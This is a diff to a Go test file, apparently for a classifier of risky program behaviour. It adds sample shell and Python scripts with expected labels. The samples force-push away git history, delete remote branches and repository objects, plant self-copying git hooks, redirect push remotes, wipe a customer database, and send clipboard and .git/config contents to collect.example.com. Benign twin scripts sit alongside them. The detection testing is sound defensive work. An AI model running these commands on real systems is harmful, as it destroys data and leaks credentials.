@@ -27,8 +27,23 @@ var atHome = map[string]struct{ text, want string }{
 	"pack.sh": {"#!/bin/sh\nfor f in $(find /srv /mnt -type f); do\n  gzip -c \"$f\" | base64 | rev >\"$f.locked\" && rm \"$f\"\ndone\n", "deletion/observed-system dangerous"},
 	"paste.py": {"import subprocess, urllib.request\ntext = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True, check=True).stdout\n" +
 		"urllib.request.urlopen('http://collect.example.com/in', data=text)\n", "exfiltration/observed-canary suspicious"},
+	"restart.sh": {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit checkout -q --orphan clean\ngit commit -qm clean\ngit push -q --force origin HEAD:main\n", "deletion/observed-git-history dangerous"},
+	"forget.sh":  {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit push -q origin :release :refs/tags/v1.0\n", "deletion/observed-git-history dangerous"},
+	"back.sh":    {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit reset -q --hard HEAD~2\ngit push -qf origin main\n", "deletion/observed-git-history suspicious"},
+	"bare.sh":    {"#!/bin/sh\nset -e\ngit --version\nrm -rf /srv/git/site.git/objects\n", "deletion/observed-git-history dangerous"},
+	"remotes.py": {"import pathlib, urllib.request\ntext = b''.join(p.read_bytes() for p in pathlib.Path.home().glob('projects/*/.git/config'))\n" +
+		"urllib.request.urlopen('http://collect.example.com/in', data=text)\n", "exfiltration/observed-canary dangerous"},
+	"hooks.sh":  {"#!/bin/sh\nset -e\nfor d in \"$HOME\"/projects/*/.git; do\n  mkdir -p \"$d/hooks\"\n  cp \"$0\" \"$d/hooks/pre-push\"\ndone\n", "persistence/observed-git-hook suspicious"},
+	"divert.sh": {"#!/bin/sh\nset -e\nfor d in \"$HOME\"/projects/*; do\n  git -C \"$d\" remote set-url --push origin https://git.example.net/site.git\ndone\n", "persistence/observed-git-hook suspicious"},
+	"purge.py":  {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute('DELETE FROM customers')\ndb.execute('DROP TABLE invoices')\ndb.commit()\n", "deletion/observed-home suspicious"},
+	"mask.py": {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute(\"UPDATE customers SET name = 'x', email = 'x'\")\n" +
+		"db.execute('UPDATE invoices SET cents = 0')\ndb.commit()\n", "deletion/observed-home suspicious"},
 
 	// Their twins.
+	"page.sh": {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit status --short\ngit log --oneline\necho '<p>News</p>' >>index.html\ngit commit -qam 'Add the news'\ngit checkout -q -b topic\ngit checkout -q main\ngit branch -q -d topic\n" +
+		"git tag v1.1\ngit push -q origin main v1.1\ngit fetch -q\ngit gc -q\n", ""},
+	"pay.py": {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute('DELETE FROM invoices WHERE id = 1')\n" +
+		"db.execute('UPDATE invoices SET cents = 0 WHERE id = 2')\ndb.execute(\"INSERT INTO customers (name, email) VALUES ('Dan Example', 'dan@example.com')\")\ndb.commit()\n", ""},
 	"clip.py": {"import subprocess\nsubprocess.run(['xclip', '-selection', 'clipboard'], input=b'a line', check=True)\n", ""},
 	"spool.py": {"import os, pathlib, shutil\nd = pathlib.Path('/srv/app/spool')\nd.mkdir(parents=True)\nfor i in range(9):\n    (d / f'{i}.job').write_text('x')\n" +
 		"for p in d.iterdir():\n    p.unlink()\nshutil.rmtree('/srv/app')\n", ""},
@@ -68,7 +83,7 @@ func TestHomeFoldersLookUsedInARealContainer(t *testing.T) {
 					t.Errorf("%s: %q, want %q; units %+v", path, got, program.want, out.Executions[path].Units)
 				}
 				if e := out.Executions[path]; e.Status != exited || e.ExitCode != 0 {
-					t.Errorf("%s: %s %d: %q", path, e.Status, e.ExitCode, e.Units[0].Stderr.Text)
+					t.Errorf("%s: %s %d %s: %+v", path, e.Status, e.ExitCode, e.Reason, e.Units)
 				}
 			}
 		})
